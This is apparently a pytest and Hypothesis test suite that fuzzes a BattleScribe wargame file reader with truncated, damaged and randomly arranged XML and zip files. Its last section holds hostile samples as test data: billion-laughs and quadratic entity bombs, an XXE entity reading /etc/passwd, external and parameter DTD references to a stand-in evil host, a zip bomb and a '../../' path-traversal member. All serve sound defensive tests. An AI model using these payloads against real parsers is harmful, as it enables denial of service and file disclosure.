"""The BattleScribe reader against hostile files: whatever the bytes, the answer is a DataSet (or a Roster) or a
FileError, never another exception, never a loop, never an entity expanded or an external reference followed.

Example counts are small so the suite stays fast; `--hypothesis-profile thorough` runs many more."""

from __future__ import annotations

import io
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from xml.etree.ElementTree import Element, tostring
from xml.sax.saxutils import quoteattr

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.model.battlescribe.helpers import CATALOGUE_NS, catalogue, fixture, game_system
from warband.model.battlescribe.data import DataSet
from warband.model.battlescribe.reader import read_files
from warband.model.battlescribe.roster import Roster, read_roster
from warband.model.storage import FileError

_LOADED = settings().max_examples
"""The loaded profile's count: the suite's ("ci") runs a few examples here, a thorough run its own count."""
FAST = settings(
    max_examples=25 if _LOADED <= 100 else _LOADED, deadline=None, suppress_health_check=[HealthCheck.too_slow]
)
ARRANGEMENTS = settings(
    max_examples=40 if _LOADED <= 100 else _LOADED,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)

FIXTURE_NAMES = ["game.gst", "faction.cat", "library.cat", "old_game.gst", "old_faction.cat", "cycle.cat"]


def _read(name: str, data: bytes, reader: Callable[[list[Path]], object] = read_files) -> object:
    """What the reader makes of these bytes in a file of that name: a value, or the FileError it raised."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / name
        path.write_bytes(data)
        try:
            return reader([path])
        except FileError as error:
            assert error.file == str(path)
            assert error.message
            return error


def _roster(paths: list[Path]) -> Roster:
    return read_roster(paths[0])


def _zip(name: str, data: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, data)
    return buffer.getvalue()


# -- damaged files


@FAST
@given(name=st.sampled_from(FIXTURE_NAMES), fraction=st.floats(0, 1, exclude_max=True))
def test_a_truncated_file_is_a_file_error(name: str, fraction: float) -> None:
    data = fixture(name).read_bytes()
    end = data.rindex(b">")  # anything cut before the root's end is no whole document
    result = _read(name, data[: int(end * fraction)])
    assert isinstance(result, FileError)


@FAST
@given(name=st.sampled_from(FIXTURE_NAMES), fraction=st.floats(0, 1, exclude_max=True))
def test_a_truncated_zip_is_a_file_error(name: str, fraction: float) -> None:
    data = _zip(name, fixture(name).read_bytes())
    result = _read(name + "z", data[: int(len(data) * fraction)])
    assert isinstance(result, FileError)


@FAST
@given(data=st.binary(max_size=2000), name=st.sampled_from(["x.cat", "x.gst", "x.catz", "x.gstz"]))
def test_random_bytes_are_a_file_error(data: bytes, name: str) -> None:
    assert isinstance(_read(name, data), FileError)
    assert isinstance(_read(name.replace(".cat", ".ros").replace(".gst", ".ros"), data, _roster), FileError)


@FAST
@given(
    name=st.sampled_from(FIXTURE_NAMES),
    where=st.floats(0, 1, exclude_max=True),
    length=st.integers(0, 40),
    noise=st.binary(min_size=0, max_size=40),
)
def test_damaged_bytes_give_a_data_set_or_a_file_error(name: str, where: float, length: int, noise: bytes) -> None:
    data = fixture(name).read_bytes()
    at = int(len(data) * where)
    result = _read(name, data[:at] + noise + data[at + length :])
    assert isinstance(result, DataSet | FileError)


@FAST
@given(name=st.sampled_from(FIXTURE_NAMES), where=st.floats(0, 1, exclude_max=True), noise=st.binary(max_size=8))
def test_a_damaged_zip_gives_a_data_set_or_a_file_error(name: str, where: float, noise: bytes) -> None:
    data = _zip(name, fixture(name).read_bytes())
    at = int(len(data) * where)
    result = _read(name + "z", data[:at] + noise + data[at + len(noise) :])
    assert isinstance(result, DataSet | FileError)


@FAST
@given(where=st.floats(0, 1, exclude_max=True), length=st.integers(0, 30), noise=st.binary(max_size=30))
def test_a_damaged_roster_gives_a_roster_or_a_file_error(where: float, length: int, noise: bytes) -> None:
    data = fixture("roster.ros").read_bytes()
    at = int(len(data) * where)
    result = _read("r.ros", data[:at] + noise + data[at + length :], _roster)
    assert isinstance(result, Roster | FileError)


# -- documents of BattleScribe's elements in any arrangement

TAGS = [
    "selectionEntries", "selectionEntry", "entryLinks", "entryLink", "selectionEntryGroups", "selectionEntryGroup",
    "sharedSelectionEntries", "sharedSelectionEntryGroups", "sharedProfiles", "sharedRules", "sharedInfoGroups",
    "infoLinks", "infoLink", "infoGroups", "infoGroup", "profiles", "profile", "characteristics", "characteristic",
    "rules", "rule", "description", "costs", "cost", "modifiers", "modifier", "modifierGroups", "conditions",
    "condition", "conditionGroups", "conditionGroup", "repeats", "repeat", "constraints", "constraint",
    "categoryLinks", "categoryLink", "categoryEntries", "categoryEntry", "catalogueLinks", "catalogueLink",
    "costTypes", "costType", "profileTypes", "profileType", "characteristicTypes", "characteristicType", "comment",
    "forceEntries", "publications",
]  # fmt: skip
IDS = ["a", "b", "c", "d", "cat-x", "gs-test", ""]
ATTRIBUTES = {
    "id": st.sampled_from(IDS),
    "targetId": st.sampled_from(IDS),
    "type": st.sampled_from(
        ["selectionEntry", "selectionEntryGroup", "profile", "rule", "infoGroup", "unit", "max", ""]
    ),
    "value": st.sampled_from(["1", "2.5", "-1", "x", "", "1e999", "NaN"]),
    "typeId": st.sampled_from(["ct-pts", "pt", "a", ""]),
    "hidden": st.sampled_from(["true", "false", "1", "maybe"]),
    "import": st.sampled_from(["true", "false"]),
    "importRootEntries": st.sampled_from(["true", "false"]),
    "primary": st.sampled_from(["true", "false"]),
    "defaultSelectionEntryId": st.sampled_from(IDS),
}
XML_TEXT = st.text(
    st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00\ufffe\uffff").filter(
        lambda c: c in "\t\n\r" or c >= " "
    ),
    max_size=12,
)


@st.composite
def _element(draw: st.DrawFn, depth: int = 0) -> Element:
    element = Element(draw(st.sampled_from(TAGS)))
    for name in draw(st.lists(st.sampled_from(sorted(ATTRIBUTES)), max_size=4, unique=True)):
        element.set(name, draw(ATTRIBUTES[name]))
    if draw(st.booleans()):
        element.set("name", draw(XML_TEXT))
    if draw(st.integers(0, 3)) == 0:
        element.text = draw(XML_TEXT)
    if depth < 3:
        for child in draw(st.lists(_element(depth + 1), max_size=3)):
            element.append(child)
    return element


def _document(children: list[Element]) -> bytes:
    root = Element(
        f"{{{CATALOGUE_NS}}}catalogue", id="cat-x", name="Fuzz", battleScribeVersion="2.03", gameSystemId="gs-test"
    )
    for child in children:
        root.append(child)

    def qualify(element: Element) -> None:
        for child in element:
            child.tag = f"{{{CATALOGUE_NS}}}{child.tag}" if not child.tag.startswith("{") else child.tag
            qualify(child)

    qualify(root)
    return tostring(root, encoding="utf-8", default_namespace=None)


@ARRANGEMENTS
@given(children=st.lists(_element(), min_size=1, max_size=4))
def test_any_arrangement_of_elements_gives_a_data_set_or_a_file_error(children: list[Element]) -> None:
    data = _document(children)
    with tempfile.TemporaryDirectory() as folder:
        game = Path(folder) / "game.gst"
        game.write_text(game_system(), encoding="utf-8")
        path = Path(folder) / "fuzz.cat"
        path.write_bytes(data)
        try:
            result = read_files([game, path])
        except FileError:
            return
    assert isinstance(result, DataSet)
    for entry in result.catalogues[0].entries:
        assert sum(1 for _ in entry.walk()) < 10_000  # every link followed ends


@FAST
@given(
    revision=XML_TEXT,
    version=st.sampled_from(["2.01", "2.02", "2.03"]) | XML_TEXT,
    file_id=XML_TEXT,
    name=XML_TEXT,
    library=XML_TEXT,
)
def test_any_root_attributes_give_a_data_set_or_a_file_error(
    revision: str, version: str, file_id: str, name: str, library: str
) -> None:
    root = Element(
        f"{{{CATALOGUE_NS}}}catalogue",
        id=file_id,
        name=name,
        revision=revision,
        battleScribeVersion=version,
        gameSystemId="gs-test",
        library=library,
    )
    result = _read("attributes.cat", tostring(root, encoding="utf-8"))
    assert isinstance(result, DataSet | FileError)
    if isinstance(result, DataSet):
        assert result.catalogues[0].revision >= 0


@FAST
@given(number=XML_TEXT, revision=XML_TEXT, value=XML_TEXT)
def test_any_roster_numbers_give_a_roster_or_a_file_error(number: str, revision: str, value: str) -> None:
    text = fixture("roster.ros").read_text(encoding="utf-8")
    text = text.replace('number="8"', f"number={quoteattr(number)}")
    text = text.replace('gameSystemRevision="3"', f"gameSystemRevision={quoteattr(revision)}")
    text = text.replace('value="72.0"', f"value={quoteattr(value)}")
    result = _read("numbers.ros", text.encode("utf-8"), _roster)
    assert isinstance(result, Roster | FileError)
    if isinstance(result, Roster):
        assert all(selection.number >= 0 for selection in result.walk())


# -- what an XML file must not do here

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE catalogue [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<catalogue xmlns="http://www.battlescribe.net/schema/catalogueSchema" id="x" name="&lol9;"
  battleScribeVersion="2.03" gameSystemId="gs"/>
"""
QUADRATIC = (
    '<?xml version="1.0"?>\n<!DOCTYPE catalogue [<!ENTITY a "' + "a" * 10_000 + '">]>\n'
    '<catalogue xmlns="http://www.battlescribe.net/schema/catalogueSchema" id="x" name="' + "&a;" * 1000 + '"'
    ' battleScribeVersion="2.03" gameSystemId="gs"/>\n'
)
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE catalogue [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<catalogue xmlns="http://www.battlescribe.net/schema/catalogueSchema" id="x" name="&secret;"
  battleScribeVersion="2.03" gameSystemId="gs"/>
"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE catalogue SYSTEM "http://example.com/evil.dtd">
<catalogue xmlns="http://www.battlescribe.net/schema/catalogueSchema" id="x" name="x"
  battleScribeVersion="2.03" gameSystemId="gs"/>
"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE catalogue [<!ENTITY % remote SYSTEM "http://example.com/evil.dtd"> %remote;]>
<catalogue xmlns="http://www.battlescribe.net/schema/catalogueSchema" id="x" name="x"
  battleScribeVersion="2.03" gameSystemId="gs"/>
"""
HOSTILE = {
    "billion laughs": BILLION_LAUGHS,
    "quadratic blow-up": QUADRATIC,
    "external entity": EXTERNAL_ENTITY,
    "external DTD": EXTERNAL_DTD,
    "parameter entity": PARAMETER_ENTITY,
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
@pytest.mark.parametrize("zipped", [False, True], ids=["plain", "zipped"])
def test_dtds_entities_and_external_references_are_refused(text: str, zipped: bool) -> None:
    data = text.encode("utf-8")
    result = _read("evil.catz", _zip("evil.cat", data)) if zipped else _read("evil.cat", data)
    assert isinstance(result, FileError)
    assert "refuses DTDs, entities and external references" in result.message
    roster = _read("evil.ros", data.replace(b"catalogue", b"roster"), _roster)
    assert isinstance(roster, FileError) and "DTD" in roster.message


def test_a_zip_bomb_is_refused_before_it_is_decompressed() -> None:
    bomb = _zip("bomb.cat", catalogue().encode() + b" " * (51 * 1024 * 1024))  # 51 MB of XML, 50 kB zipped
    assert len(bomb) < 1_000_000
    result = _read("bomb.catz", bomb)
    assert isinstance(result, FileError)
    assert "once decompressed" in result.message and "50 MB" in result.message


def test_a_zip_with_two_members_is_refused() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("a.cat", catalogue())
        archive.writestr("../../b.cat", catalogue())
    result = _read("two.catz", buffer.getvalue())
    assert isinstance(result, FileError) and "2 files" in result.message


def test_an_encrypted_or_oddly_compressed_zip_is_a_file_error() -> None:
    data = bytearray(_zip("a.cat", catalogue().encode()))
    data[6] |= 0x01  # the local header's "encrypted" flag
    data[data.index(b"PK\x01\x02") + 8] |= 0x01  # and the central directory's
    assert isinstance(_read("enc.catz", bytes(data)), FileError)
    odd = bytearray(_zip("a.cat", catalogue().encode()))
    central = odd.index(b"PK\x01\x02")
    odd[central + 10 : central + 12] = (99).to_bytes(2, "little")  # an unknown compression method
    odd[8:10] = (99).to_bytes(2, "little")
    assert isinstance(_read("odd.catz", bytes(odd)), FileError)
